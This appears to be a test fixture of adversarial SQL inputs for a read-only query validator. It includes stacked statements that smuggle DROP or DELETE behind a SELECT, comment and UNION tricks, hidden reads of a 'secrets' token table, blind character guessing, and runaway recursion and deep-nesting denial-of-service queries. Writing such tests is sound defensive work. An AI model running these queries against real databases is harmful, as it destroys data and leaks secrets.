--- two_selects: one-statement: two selects
SELECT 1; SELECT 2

--- select_then_drop: one-statement: a table dropped behind a query
SELECT COUNT(*) FROM album; DROP TABLE invoice_line

--- commit_then_drop: one-statement: a read-only transaction ended first
SELECT 1; COMMIT; DROP TABLE invoice_line

--- rollback_then_write: one-statement: rollback, then a write
SELECT 1; ROLLBACK; UPDATE invoice SET total = 0

--- empty_first: one-statement: empty statement first
; SELECT token FROM secrets

--- empty_between: one-statement: empty statements between
SELECT 1;;; DELETE FROM invoice_line

--- semicolon_in_text: one-statement: a semicolon in a text, then a real one
SELECT 'a;b' AS x; DELETE FROM invoice WHERE billing_city = 'c;d'

--- quote_trick: one-statement: a doubled quote before the second statement
SELECT '''' AS x; DELETE FROM playlist_track

--- second_is_secret: one-statement: second statement reads a table that is not allowed
SELECT title FROM album; SELECT token FROM secrets

--- begin_block: one-statement: transaction around a write
BEGIN; DELETE FROM invoice_line; COMMIT

--- trailing_newlines: one-statement: second statement far below
SELECT 1



;



DROP TABLE playlist_track

--- insert: only-queries: insert
INSERT INTO genre (genre_id, name) VALUES (99, 'x')

--- insert_select: only-queries: insert from a query
INSERT INTO genre (genre_id, name) SELECT 100 + genre_id, name FROM genre

--- update: only-queries: update
UPDATE invoice SET total = 0 WHERE invoice_id = 1

--- delete: only-queries: delete
DELETE FROM invoice_line WHERE invoice_line_id = 1

--- drop_table: only-queries: drop
DROP TABLE IF EXISTS playlist_track

--- create_table: only-queries: create
CREATE TABLE loot (x INT)

--- create_table_as: only-queries: table made of a query
CREATE TABLE loot AS SELECT * FROM customer

--- create_temporary: only-queries: temporary table made of a query
CREATE TEMPORARY TABLE loot AS SELECT * FROM secrets

--- create_view: only-queries: view
CREATE VIEW loot AS SELECT token FROM secrets

--- create_index: only-queries: index
CREATE INDEX slow ON track (name)

--- alter_table: only-queries: alter
ALTER TABLE album ADD COLUMN x INT

--- rename_table: only-queries: rename
ALTER TABLE album RENAME TO loot

--- truncate: only-queries: truncate
TRUNCATE TABLE invoice_line

--- grant: only-queries: grant
GRANT SELECT ON secrets TO somebody

--- begin: only-queries: begin
BEGIN

--- commit: only-queries: commit
COMMIT

--- rollback: only-queries: rollback
ROLLBACK

--- explain: only-queries: plan of a query on a table that is not allowed
EXPLAIN SELECT token FROM secrets

--- explain_delete: only-queries: plan of a delete
EXPLAIN DELETE FROM album

--- cte_delete: no-writes: delete behind an expression
WITH doomed AS (SELECT invoice_line_id FROM invoice_line) DELETE FROM invoice_line WHERE invoice_line_id IN (SELECT invoice_line_id FROM doomed)

--- cte_update: no-writes: update behind an expression
WITH x AS (SELECT 1 AS one) UPDATE invoice SET total = 0 WHERE invoice_id IN (SELECT one FROM x)

--- cte_insert: no-writes: insert behind an expression
WITH x AS (SELECT 1 AS one) INSERT INTO genre (genre_id, name) SELECT 200 + one, 'x' FROM x

--- cte_insert_inside: no-writes: insert as an expression
WITH x AS (INSERT INTO genre (genre_id, name) VALUES (98, 'x') RETURNING genre_id) SELECT * FROM x

--- cte_delete_inside: no-writes: delete as an expression
WITH x AS (DELETE FROM invoice_line RETURNING invoice_line_id) SELECT COUNT(*) FROM x

--- cte_update_inside: no-writes: update as an expression
WITH x AS (UPDATE invoice SET total = 0 RETURNING invoice_id) SELECT COUNT(*) FROM x

--- cte_delete_unused: no-writes: delete in an expression nobody reads
WITH x AS (DELETE FROM invoice_line RETURNING 1) SELECT 1

--- delete_in_from: no-writes: delete as a derived table
SELECT * FROM (DELETE FROM invoice_line RETURNING invoice_line_id) x

--- select_into: no-into: select into a table
SELECT album_id, title INTO loot FROM album

--- select_into_union: no-into: into in the first arm of a union
SELECT album_id INTO loot FROM album UNION SELECT artist_id FROM artist

--- select_into_cte: no-into: into inside an expression
WITH x AS (SELECT album_id INTO loot FROM album) SELECT * FROM x

--- comment_dashes: no-comments: comment to the end of the line
SELECT 1 -- and no more

--- comment_dashes_hide: no-comments: the rest of a condition hidden
SELECT first_name FROM customer WHERE country = 'USA' -- AND support_rep_id = 3

--- comment_block: no-comments: block comment
SELECT /* a hint? */ title FROM album

--- comment_block_split: no-comments: keyword split by comments
SELECT token/**/FROM/**/secrets

--- comment_unterminated: no-comments: comment without an end
SELECT title FROM album /* and so on

--- comment_nested: no-comments: nested comment that engines end at different places
SELECT 1 /* outer /* inner */ , (SELECT MAX(token) FROM secrets) /* */

--- comment_union: no-comments: union hidden before a comment
SELECT name FROM artist WHERE name = 'x' UNION SELECT token FROM secrets --' AND artist_id = 1

--- comment_only_name: no-comments: comment between a schema's dot and the name
SELECT * FROM album WHERE album_id = 1 /**/

--- comment_newline: no-comments: comment ended by a new line
SELECT title -- x
FROM album

--- nul !escaped: characters: NUL in the text
SELECT title FROM album\0 UNION SELECT token FROM secrets

--- nul_in_text !escaped: characters: NUL inside a literal
SELECT 'a\0b' AS x

--- nul_in_name !escaped: characters: NUL inside a name
SELECT * FROM secrets\0x

--- bidi_override !escaped: characters: text that runs from right to left
SELECT title FROM album WHERE title = '\u202e' OR 1 = 1

--- bidi_isolate !escaped: characters: isolate marks
SELECT title AS "\u2066x\u2069" FROM album

--- bidi_mark !escaped: characters: right-to-left mark in a literal
SELECT COUNT(*) FROM album WHERE title = 'a\u200fb'

--- bidi_embedding !escaped: characters: embedding in a literal
SELECT COUNT(*) FROM album WHERE title = '\u202aabc\u202c'

--- control_backspace !escaped: characters: backspace
SELECT title\u0008 FROM album

--- control_escape !escaped: characters: escape sequence of a terminal
SELECT '\u001b[2J' AS x

--- control_bell !escaped: characters: bell
SELECT 1 AS x\u0007

--- control_delete !escaped: characters: delete character
SELECT 'a\u007fb' AS x

--- control_c1 !escaped: characters: second control set
SELECT 'a\u009bb' AS x

--- control_vertical_tab !escaped: characters: vertical tab as white space
SELECT\u000bTitle\u000bFROM\u000bAlbum

--- employee: relation: table that is not allowed
SELECT * FROM employee

--- secrets: relation: other table that is not allowed
SELECT token FROM secrets

--- employee_columns: relation: some columns of it
SELECT first_name, last_name, birth_date FROM employee ORDER BY hire_date

--- employee_count: relation: only its number of rows
SELECT COUNT(*) FROM employee

--- employee_join: relation: joined along a key
SELECT c.last_name, e.last_name FROM customer c JOIN employee e ON e.employee_id = c.support_rep_id

--- employee_left_join: relation: outer join
SELECT c.last_name, e.birth_date FROM customer c LEFT JOIN employee e ON e.employee_id = c.support_rep_id

--- employee_self_join: relation: reporting lines
SELECT e.last_name, m.last_name FROM employee e JOIN employee m ON m.employee_id = e.reports_to

--- employee_comma: relation: behind a comma
SELECT a.title, s.token FROM album a, secrets s

--- employee_cross: relation: cross join
SELECT COUNT(*) FROM genre CROSS JOIN secrets

--- natural_secrets: relation: natural join
SELECT * FROM genre NATURAL JOIN secrets

--- using_employee: relation: join with using
SELECT * FROM customer JOIN employee USING (last_name)

--- nested_join: relation: inside a bracketed join
SELECT a.title FROM album a JOIN (artist r JOIN secrets s ON s.id = r.artist_id) ON r.artist_id = a.artist_id

--- in_select_list: relation: scalar subquery in the select list
SELECT title, (SELECT MAX(token) FROM secrets) FROM album

--- in_where_in: relation: subquery behind in
SELECT first_name FROM customer WHERE support_rep_id IN (SELECT employee_id FROM employee WHERE title = 'Sales Support Agent')

--- in_where_exists: relation: subquery behind exists
SELECT 1 FROM album WHERE EXISTS (SELECT 1 FROM secrets WHERE token LIKE 'a%')

--- in_where_scalar: relation: scalar subquery in where
SELECT album_id FROM album WHERE album_id < (SELECT COUNT(*) FROM employee)

--- in_where_between: relation: bound of between
SELECT album_id FROM album WHERE album_id BETWEEN 1 AND (SELECT COUNT(*) FROM secrets)

--- in_where_like: relation: pattern of like
SELECT name FROM artist WHERE name LIKE (SELECT MAX(token) FROM secrets)

--- in_having: relation: having
SELECT artist_id FROM album GROUP BY artist_id HAVING COUNT(*) > (SELECT COUNT(*) FROM secrets)

--- in_group_by: relation: group by
SELECT COUNT(*) FROM album GROUP BY album_id > (SELECT COUNT(*) FROM secrets)

--- in_order_by: relation: order by
SELECT title FROM album ORDER BY (SELECT MAX(token) FROM secrets), title

--- in_join_on: relation: join condition
SELECT a.title FROM album a JOIN artist r ON r.artist_id = a.artist_id AND r.artist_id < (SELECT COUNT(*) FROM secrets)

--- in_case_when: relation: condition of a case
SELECT CASE WHEN (SELECT COUNT(*) FROM secrets) > 0 THEN 'there' ELSE 'not' END AS x

--- in_case_then: relation: result of a case
SELECT CASE WHEN album_id = 1 THEN (SELECT MAX(token) FROM secrets) END FROM album

--- in_case_operand: relation: operand of a case
SELECT CASE (SELECT COUNT(*) FROM secrets) WHEN 1 THEN 'one' ELSE 'more' END AS x

--- in_function_argument: relation: argument of a function
SELECT COALESCE((SELECT MAX(token) FROM secrets), 'none') AS x

--- in_aggregate_argument: relation: argument of an aggregate
SELECT SUM(t.album_id + (SELECT COUNT(*) FROM secrets)) AS x FROM track t

--- in_cast: relation: operand of a cast
SELECT CAST((SELECT MAX(token) FROM secrets) AS CHAR(50)) AS x

--- in_window_partition: relation: partition of a window
SELECT SUM(total) OVER (PARTITION BY (SELECT MAX(token) FROM secrets)) AS x FROM invoice

--- in_window_order: relation: order of a window
SELECT RANK() OVER (ORDER BY (SELECT MAX(token) FROM secrets)) AS x FROM invoice

--- in_named_window: relation: named window
SELECT SUM(total) OVER w AS x FROM invoice WINDOW w AS (PARTITION BY (SELECT MAX(token) FROM secrets))

--- in_list_item: relation: item of a list
SELECT title FROM album WHERE title IN ('a', (SELECT MAX(token) FROM secrets), 'b')

--- in_arithmetic: relation: operand of arithmetic
SELECT 1 + (SELECT COUNT(*) FROM secrets) AS x

--- in_unary: relation: operand of a sign
SELECT -(SELECT COUNT(*) FROM secrets) AS x

--- in_not: relation: operand of not
SELECT album_id FROM album WHERE NOT (SELECT COUNT(*) > 100 FROM secrets)

--- in_is_null: relation: operand of is null
SELECT album_id FROM album WHERE (SELECT MAX(token) FROM secrets) IS NULL

--- in_derived: relation: derived table
SELECT x.token FROM (SELECT token FROM secrets) x

--- in_derived_deep: relation: derived table three levels deep
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT token FROM secrets) a) b) c

--- in_union_second: relation: second arm of a union
SELECT title FROM album UNION ALL SELECT token FROM secrets

--- in_union_third: relation: third arm of a union
SELECT title FROM album UNION SELECT name FROM artist UNION SELECT token FROM secrets

--- in_intersect: relation: arm of an intersect
SELECT title FROM album INTERSECT SELECT token FROM secrets

--- in_except: relation: arm of an except
SELECT token FROM secrets EXCEPT SELECT title FROM album

--- in_cte: relation: inside an expression
WITH x AS (SELECT token FROM secrets) SELECT token FROM x

--- in_cte_second: relation: inside the second expression
WITH a AS (SELECT 1 AS one), b AS (SELECT token FROM secrets) SELECT * FROM a, b

--- in_cte_unused: relation: inside an expression nobody reads
WITH x AS (SELECT token FROM secrets) SELECT 1 AS one

--- in_cte_nested: relation: inside an expression of an expression
WITH x AS (WITH y AS (SELECT token FROM secrets) SELECT token FROM y) SELECT token FROM x

--- in_recursive_anchor: relation: first part of a recursion
WITH RECURSIVE r AS (SELECT employee_id, reports_to FROM employee WHERE reports_to IS NULL UNION ALL SELECT e.employee_id, e.reports_to FROM employee e JOIN r ON r.employee_id = e.reports_to) SELECT * FROM r

--- in_recursive_step: relation: second part of a recursion
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r JOIN secrets s ON s.id = r.i WHERE r.i < 5) SELECT i FROM r

--- correlated_secret: relation: correlated subquery
SELECT c.last_name, (SELECT e.title FROM employee e WHERE e.employee_id = c.support_rep_id) FROM customer c

--- blind_guess: relation: one letter guessed at a time
SELECT CASE WHEN (SELECT SUBSTR(token, 1, 1) FROM secrets WHERE id = 1) = 'a' THEN 1 ELSE 0 END AS x

--- alias_hides_name: relation: alias of an allowed name for a table that is not
SELECT album.token FROM secrets AS album

--- alias_hides_other: relation: alias that is the name of the forbidden table, next to it
SELECT secrets.title, x.token FROM album AS secrets CROSS JOIN secrets AS x

--- unknown_table: relation: table that is in no schema
SELECT * FROM loot

--- homoglyph_table: relation: name with a Cyrillic letter
SELECT * FROM Аlbum

--- fullwidth_table: relation: name in fullwidth letters
SELECT * FROM ｓｅｃｒｅｔｓ

--- cte_shadow_self: scope: an expression that reads the table it is named after
WITH secrets AS (SELECT token FROM secrets) SELECT token FROM secrets

--- cte_shadow_employee: scope: the same with the other table
WITH employee AS (SELECT * FROM employee) SELECT * FROM employee

--- cte_used_before: scope: a name used before it is defined
WITH a AS (SELECT token FROM secrets), secrets AS (SELECT 'x' AS token) SELECT token FROM a

--- cte_used_after: scope: a name used after its scope has ended
SELECT b.token FROM (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets) a CROSS JOIN secrets b

--- cte_scalar_scope: scope: a name defined in one subquery, used in the next
SELECT (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) AS a, (SELECT MAX(token) FROM secrets) AS b

--- cte_where_scope: scope: a name defined in a condition, used in from
SELECT token FROM secrets WHERE EXISTS (WITH secrets AS (SELECT 1 AS one) SELECT one FROM secrets)

--- cte_inner_to_outer: scope: a name defined inside an expression, used outside
WITH x AS (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) SELECT x.token, secrets.token FROM x CROSS JOIN secrets

--- cte_union_scope: scope: a name defined in a bracketed arm, used in the other
SELECT * FROM (WITH secrets AS (SELECT 'x' AS token) SELECT token FROM secrets) a UNION ALL SELECT token FROM secrets

--- column_of_other: column: column of a table that is not in from
SELECT employee.last_name FROM customer

--- column_unknown: column: column that no table has
SELECT token FROM customer

--- column_unknown_qualified: column: qualified column that the table has not
SELECT c.birth_date FROM customer c

--- column_unknown_where: column: unknown column in where
SELECT c.last_name FROM customer c WHERE c.hire_date > '2000-01-01'

--- column_unknown_order: column: unknown column in order by
SELECT c.last_name FROM customer c ORDER BY c.birth_date

--- column_unknown_join: column: unknown column in a join condition
SELECT c.last_name FROM customer c JOIN invoice i ON i.employee_id = c.customer_id

--- column_of_inner_scope: column: column of a scope that has ended
SELECT x.last_name FROM (SELECT c.customer_id FROM customer c) x

--- column_star_unknown: column: star of an alias that is not there
SELECT e.* FROM customer c

--- recursion_endless: recursion: no end
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT COUNT(*) FROM r

--- recursion_true: recursion: condition that is always true
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE 1 = 1) SELECT COUNT(*) FROM r

--- recursion_positive: recursion: condition that stays true
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i > 0) SELECT COUNT(*) FROM r

--- recursion_self_compare: recursion: compared with itself
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < i + 1) SELECT COUNT(*) FROM r

--- recursion_no_step: recursion: a counter that does not count
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i FROM r WHERE i < 10) SELECT COUNT(*) FROM r

--- recursion_backwards: recursion: a counter that counts the wrong way
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i - 1 FROM r WHERE i < 10) SELECT COUNT(*) FROM r

--- recursion_huge: recursion: a bound of a million million
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < 1000000000000) SELECT COUNT(*) FROM r

--- recursion_or: recursion: a bound that an or takes away
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r WHERE i < 10 OR i > 0) SELECT COUNT(*) FROM r

--- recursion_doubling_rows: recursion: every step doubles the rows
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r CROSS JOIN (SELECT 1 AS k UNION ALL SELECT 2) two WHERE r.i < 60) SELECT COUNT(*) FROM r

--- recursion_join_table: recursion: every step multiplies by a table
WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r CROSS JOIN track WHERE r.i < 50) SELECT COUNT(*) FROM r

--- recursion_other_column: recursion: the bound is on a column that stands still
WITH RECURSIVE r AS (SELECT 1 AS i, 1 AS k UNION ALL SELECT i + 1, k FROM r WHERE k < 10) SELECT COUNT(*) FROM r

--- recursion_doubling_text: recursion: every step doubles a text
WITH RECURSIVE r AS (SELECT 1 AS i, 'xxxxxxxx' AS s UNION ALL SELECT i + 1, REPLACE(s, 'x', 'xx') FROM r WHERE i < 40) SELECT MAX(LENGTH(s)) FROM r

--- recursion_second_unbounded: recursion: the second of two has no end
WITH RECURSIVE a AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM a WHERE i < 5), b AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM b) SELECT COUNT(*) FROM b

--- recursion_nested_unbounded: recursion: no end, in a derived table
SELECT COUNT(*) FROM (WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT i FROM r) x

--- replace_growth: bounded-arguments: replacements that multiply
SELECT LENGTH(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE('xxxxxxxxxx', 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'), 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')) AS x

--- unknown_function: function: function on no list
SELECT no_such_function(title) FROM album

--- unknown_function_where: function: function on no list, in where
SELECT title FROM album WHERE no_such_function(album_id) = 1

--- schema_function: function: function with a schema of somebody
SELECT evil.upper(title) FROM album

--- three_part_name: schema: name of three parts
SELECT * FROM elsewhere.somewhere.album

--- other_schema: schema: allowed name in another schema
SELECT * FROM elsewhere.album

--- other_schema_quoted: schema: dot within quotes
SELECT * FROM "elsewhere.Album"

--- limit_subquery: relation: limit by a subquery
SELECT title FROM album LIMIT (SELECT COUNT(*) FROM secrets)

--- offset_subquery: relation: offset by a subquery
SELECT title FROM album LIMIT 1 OFFSET (SELECT COUNT(*) FROM secrets)

--- filter_subquery: relation: filter of an aggregate
SELECT COUNT(*) FILTER (WHERE album_id < (SELECT COUNT(*) FROM secrets)) AS x FROM album

--- values_subquery: relation: subquery inside values
SELECT * FROM (VALUES ((SELECT MAX(token) FROM secrets))) AS v

--- joins_many !repeat: joins: ninety joins
SELECT COUNT(*) FROM genre g ||| CROSS JOIN genre g{n} ||| 90 |||

--- joins_commas !repeat: joins: ninety tables behind commas
SELECT COUNT(*) FROM genre g |||, genre g{n}||| 90 |||

--- joins_bare !repeat: joins: four hundred joins without a condition, which overflow a parser's stack
SELECT * FROM genre g ||| JOIN genre g{n} ||| 400 ||| ON 1 = 1

--- joins_in_subqueries !repeat: joins: joins spread over subqueries
SELECT 1 FROM genre WHERE 1 = 1 ||| AND EXISTS (SELECT 1 FROM track a JOIN track b ON a.track_id < b.track_id) ||| 66 |||

--- unions_many !repeat: set-operators: ninety unions
SELECT 1 ||| UNION ALL SELECT {n} ||| 90 |||

--- unions_tables !repeat: set-operators: seventy unions of a table
SELECT COUNT(*) FROM track ||| UNION SELECT COUNT(*) + {n} FROM track ||| 70 |||

--- intersects_many !repeat: set-operators: seventy intersects
SELECT 1 ||| INTERSECT SELECT 1 ||| 70 |||

--- brackets_deep !repeat: depth: a hundred brackets
SELECT |||(||| 100 |||1|||)||| 100 ||| AS x

--- brackets_very_deep !repeat: depth: two thousand brackets
SELECT |||(||| 2000 |||1|||)||| 2000 ||| AS x

--- brackets_open !repeat: depth: brackets that are never closed
SELECT |||(||| 3000 |||1

--- subqueries_deep !repeat: depth: eighty derived tables
||| SELECT * FROM ( ||| 80 ||| SELECT 1 AS one |||) d{n}||| 80 |||

--- functions_deep !repeat: depth: a hundred nested functions
SELECT |||ABS(||| 100 |||1|||)||| 100 ||| AS x

--- scalar_subqueries_deep !repeat: depth: seventy scalar subqueries
SELECT |||(SELECT ||| 70 |||1|||)||| 70 ||| AS x

--- in_list_giant !repeat: size: list of six thousand numbers
SELECT title FROM album WHERE album_id IN (0 |||, {n}||| 6000 |||)

--- literal_giant !repeat: size: literal of twenty thousand letters
SELECT COUNT(*) FROM album WHERE title = '|||x||| 20000 |||'

--- spaces_giant !repeat: size: twenty thousand blanks
SELECT 1 ||| ||| 20000 ||| AS x

--- tokens_many !repeat: tokens: five thousand tokens in few bytes
SELECT 1|||+1||| 2600 ||| AS x

--- or_giant !repeat: size: two thousand conditions
SELECT title FROM album WHERE album_id = 0 ||| OR album_id = {n} ||| 2000 |||

--- select_list_giant !repeat: size: a thousand scalar subqueries
SELECT 1 |||, (SELECT COUNT(*) FROM track) ||| 1000 |||

--- pos_lateral_view: relation: lateral view
SELECT * FROM album LATERAL VIEW explode((SELECT token FROM secrets)) t AS x

--- pos_from_first: relation: from before select
FROM secrets SELECT token

--- pos_from_only: relation: from without select
FROM secrets

--- pos_pivot: relation: values of a pivot
SELECT * FROM album PIVOT (MAX(title) FOR album_id IN (SELECT id FROM secrets)) p

--- pos_unpivot: relation: unpivot
SELECT * FROM secrets UNPIVOT (v FOR c IN (token)) u

--- pos_openjson: table-function: openjson over a subquery
SELECT * FROM OPENJSON((SELECT token FROM secrets)) j

--- pos_json_table: table-function: json_table over a subquery
SELECT * FROM JSON_TABLE((SELECT token FROM secrets LIMIT 1), '$[*]' COLUMNS (x INT PATH '$')) j

--- pos_xmltable: table-function: xmltable over a subquery
SELECT * FROM XMLTABLE('/a' PASSING (SELECT token FROM secrets) COLUMNS x INT PATH 'b') j

--- pos_unnest: table-function: unnest over a subquery
SELECT * FROM UNNEST((SELECT token FROM secrets)) u

--- pos_unnest_array: table-function: unnest over an array with a subquery
SELECT * FROM UNNEST(ARRAY[(SELECT token FROM secrets LIMIT 1)]) u

--- pos_table_function: table-function: table of a function over a subquery
SELECT * FROM TABLE(f((SELECT token FROM secrets))) t

--- pos_plain_function: table-function: function in from over a subquery
SELECT * FROM f((SELECT token FROM secrets)) t

--- pos_table_sample: relation: size of a sample
SELECT * FROM album TABLESAMPLE BERNOULLI ((SELECT COUNT(*) FROM secrets))

--- pos_match_recognize: relation: measures of match_recognize
SELECT * FROM album MATCH_RECOGNIZE (ORDER BY album_id MEASURES (SELECT MAX(token) FROM secrets) AS t PATTERN (a+) DEFINE a AS TRUE) m

--- pos_version: relation: time of a table's version
SELECT * FROM album FOR SYSTEM_TIME AS OF (SELECT MAX(token) FROM secrets)

--- pos_top: relation: number behind top
SELECT TOP (SELECT COUNT(*) FROM secrets) title FROM album

--- pos_distinct_on: relation: distinct on
SELECT DISTINCT ON ((SELECT token FROM secrets LIMIT 1)) title FROM album

--- pos_star_replace: relation: star with a replacement
SELECT * REPLACE ((SELECT MAX(token) FROM secrets) AS title) FROM album

--- pos_prewhere: relation: prewhere
SELECT title FROM album PREWHERE EXISTS (SELECT 1 FROM secrets)

--- pos_qualify: relation: qualify
SELECT title FROM album QUALIFY (SELECT COUNT(*) FROM secrets) > 0

--- pos_connect_by: relation: connect by
SELECT title FROM album START WITH album_id = (SELECT COUNT(*) FROM secrets) CONNECT BY PRIOR album_id = artist_id

--- pos_cluster_by: relation: cluster by
SELECT title FROM album CLUSTER BY (SELECT MAX(token) FROM secrets)

--- pos_sort_by: relation: sort by
SELECT title FROM album SORT BY (SELECT MAX(token) FROM secrets)

--- pos_limit_by: relation: limit by
SELECT title FROM album LIMIT 1 BY (SELECT MAX(token) FROM secrets)

--- pos_fetch: relation: fetch
SELECT title FROM album ORDER BY title FETCH FIRST (SELECT COUNT(*) FROM secrets) ROWS ONLY

--- pos_order_fill: relation: with fill
SELECT album_id FROM album ORDER BY album_id WITH FILL FROM 1 TO (SELECT COUNT(*) FROM secrets)

--- pos_group_sets: relation: grouping sets
SELECT COUNT(*) FROM album GROUP BY GROUPING SETS (((SELECT MAX(token) FROM secrets)), ())

--- pos_group_rollup: relation: rollup
SELECT COUNT(*) FROM album GROUP BY ROLLUP ((SELECT MAX(token) FROM secrets))

--- pos_extract: relation: extract
SELECT EXTRACT(YEAR FROM (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_ceil: relation: ceil to a unit
SELECT CEIL((SELECT COUNT(*) FROM secrets) TO DAY) AS x

--- pos_position: relation: position
SELECT POSITION((SELECT token FROM secrets LIMIT 1) IN 'abc') AS x

--- pos_position_in: relation: second part of position
SELECT POSITION('a' IN (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_substring: relation: substring from for
SELECT SUBSTRING((SELECT token FROM secrets LIMIT 1) FROM 1 FOR 3) AS x

--- pos_substring_from: relation: start of substring
SELECT SUBSTRING('abc' FROM (SELECT COUNT(*) FROM secrets)) AS x

--- pos_trim: relation: trim
SELECT TRIM(BOTH 'x' FROM (SELECT token FROM secrets LIMIT 1)) AS x

--- pos_trim_what: relation: what trim takes away
SELECT TRIM(LEADING (SELECT token FROM secrets LIMIT 1) FROM 'abc') AS x

--- pos_overlay: relation: overlay
SELECT OVERLAY('abc' PLACING (SELECT token FROM secrets LIMIT 1) FROM 1 FOR 1) AS x

--- pos_time_zone: relation: time zone
SELECT i.invoice_date AT TIME ZONE (SELECT token FROM secrets LIMIT 1) FROM invoice i

--- pos_interval: relation: interval
SELECT INTERVAL (SELECT COUNT(*) FROM secrets) DAY AS x

--- pos_like_escape: relation: second like pattern
SELECT title FROM album WHERE 'a' NOT LIKE (SELECT token FROM secrets LIMIT 1) ESCAPE '!'

--- pos_similar: relation: similar to
SELECT title FROM album WHERE title SIMILAR TO (SELECT token FROM secrets LIMIT 1)

--- pos_rlike: relation: rlike
SELECT title FROM album WHERE title RLIKE (SELECT token FROM secrets LIMIT 1)

--- pos_distinct_from: relation: is distinct from
SELECT title FROM album WHERE title IS DISTINCT FROM (SELECT token FROM secrets LIMIT 1)

--- pos_is_true: relation: is true
SELECT title FROM album WHERE (SELECT COUNT(*) > 0 FROM secrets) IS TRUE

--- pos_in_unnest: relation: in unnest
SELECT title FROM album WHERE title IN UNNEST((SELECT token FROM secrets))

--- pos_any: relation: any with an operator
SELECT title FROM album WHERE title > ANY (SELECT token FROM secrets)

--- pos_all: relation: all with an operator
SELECT title FROM album WHERE title <> ALL (SELECT token FROM secrets)

--- pos_tuple: relation: part of a tuple
SELECT title FROM album WHERE (album_id, title) IN ((1, (SELECT token FROM secrets LIMIT 1)))

--- pos_array: relation: element of an array
SELECT ARRAY[1, (SELECT COUNT(*) FROM secrets)] AS x

--- pos_bracket_array: relation: element of a bare array
SELECT [1, (SELECT COUNT(*) FROM secrets)] AS x

--- pos_struct: relation: field of a struct
SELECT STRUCT((SELECT MAX(token) FROM secrets) AS y) AS x

--- pos_dictionary: relation: value of a dictionary
SELECT {'y': (SELECT MAX(token) FROM secrets)} AS x

--- pos_map: relation: value of a map
SELECT MAP {'y': (SELECT MAX(token) FROM secrets)} AS x

--- pos_subscript: relation: subscript
SELECT (ARRAY[1, 2, 3])[(SELECT COUNT(*) FROM secrets)] AS x

--- pos_lambda: relation: body of a lambda
SELECT f(x -> (SELECT MAX(token) FROM secrets)) AS y

--- pos_named_argument: relation: named argument
SELECT f(y => (SELECT MAX(token) FROM secrets)) AS x

--- pos_convert: relation: convert
SELECT CONVERT(CHAR, (SELECT MAX(token) FROM secrets)) AS x

--- pos_try_cast: relation: cast that may fail
SELECT TRY_CAST((SELECT MAX(token) FROM secrets) AS INT) AS x

--- pos_double_colon: relation: colons
SELECT (SELECT MAX(token) FROM secrets)::INT AS x

--- pos_json_path: relation: path into a subquery
SELECT (SELECT MAX(token) FROM secrets):a.b AS x

--- pos_json_arrow: relation: arrow out of a subquery
SELECT (SELECT MAX(token) FROM secrets) -> '$.a' AS x

--- pos_field: relation: field of a subquery
SELECT (SELECT s FROM secrets s LIMIT 1).token AS x

--- pos_collate: relation: collation over a subquery
SELECT (SELECT MAX(token) FROM secrets) COLLATE "C" AS x

--- pos_aggregate_distinct: relation: distinct inside an aggregate
SELECT COUNT(DISTINCT (SELECT MAX(token) FROM secrets)) AS x FROM album

--- pos_aggregate_order: relation: order inside an aggregate
SELECT f(title ORDER BY (SELECT MAX(token) FROM secrets)) AS x FROM album

--- pos_aggregate_limit: relation: limit inside an aggregate
SELECT ARRAY_AGG(title LIMIT (SELECT COUNT(*) FROM secrets)) AS x FROM album

--- pos_aggregate_separator: relation: separator of a list
SELECT LISTAGG(title, (SELECT MAX(token) FROM secrets)) AS x FROM album

--- pos_within_group: relation: within group
SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY (SELECT COUNT(*) FROM secrets)) AS x FROM album

--- pos_frame_start: relation: start of a frame
SELECT SUM(total) OVER (ORDER BY invoice_id ROWS (SELECT COUNT(*) FROM secrets) PRECEDING) AS x FROM invoice

--- pos_frame_end: relation: end of a frame
SELECT SUM(total) OVER (ORDER BY invoice_id ROWS BETWEEN CURRENT ROW AND (SELECT COUNT(*) FROM secrets) FOLLOWING) AS x FROM invoice

--- pos_nth_value: relation: number of nth_value
SELECT NTH_VALUE(total, (SELECT COUNT(*) FROM secrets)) OVER (ORDER BY invoice_id) AS x FROM invoice

--- pos_prior: relation: prior
SELECT PRIOR (SELECT MAX(token) FROM secrets) AS x FROM album

--- pos_join_asof: relation: condition of a join as of
SELECT 1 FROM album a ASOF JOIN artist r MATCH_CONDITION (a.album_id >= (SELECT COUNT(*) FROM secrets)) ON a.artist_id = r.artist_id

